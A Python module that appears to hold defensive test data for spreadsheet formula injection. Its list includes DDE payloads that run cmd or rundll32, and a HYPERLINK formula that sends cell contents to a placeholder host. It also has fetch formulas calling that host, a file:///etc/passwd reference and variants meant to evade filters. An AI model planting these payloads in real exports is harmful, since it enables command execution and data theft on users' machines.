"""Texts that a spreadsheet program may take for something to be calculated, fetched or run."""

from __future__ import annotations

_FORMULAS = [
    "1+1",
    "A1",
    "SUM(A1:A9)",
    "cmd|'/C calc'!A0",
    "cmd|' /C notepad'!'A1'",
    'DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    'HYPERLINK("http://192.0.2.1/?x="&A1,"click")',
    'WEBSERVICE("http://192.0.2.1/")',
    'IMPORTXML("http://192.0.2.1/","//a")',
    'IMPORTDATA("http://192.0.2.1/")',
    'IMAGE("http://192.0.2.1/x.png")',
    "'file:///etc/passwd'#$passwd.A1",
    'INDIRECT("A1")',
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
    "NOW()",
    "RAND()",
]
# What stands before a formula, by program: the signs of Lotus and Excel, blanks and marks that are skipped on reading.
_BEFORE = ["=", "+", "-", "@"]
_HIDDEN = ["\t", "\r", "\n", " ", "\u00a0", "\u200b", "\ufeff", "\r\n", "  \t"]

DANGEROUS = (
    *(f"{sign}{formula}" for sign in _BEFORE for formula in _FORMULAS),
    *(f"{blank}={formula}" for blank in _HIDDEN for formula in ("1+1", "cmd|'/C calc'!A0")),
    "=1+1\n=2+2",
    'x",=1+1',
    "x;=1+1",
    "x\t=1+1",
    'x"\n=1+1,"',
    "'=1+1",
    "''=1+1",
    "=-1+1",
    "+-=1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "|calc",
    "%0A=1+1",
    "{=1+1}",
    "=1+1--",
    "-1",
    "+82 10 0000 0000",
    "@mention",
    "=",
    "-",
    "=of:=1+1",
    "of:=1+1",
    "msoxl:=1+1",
)
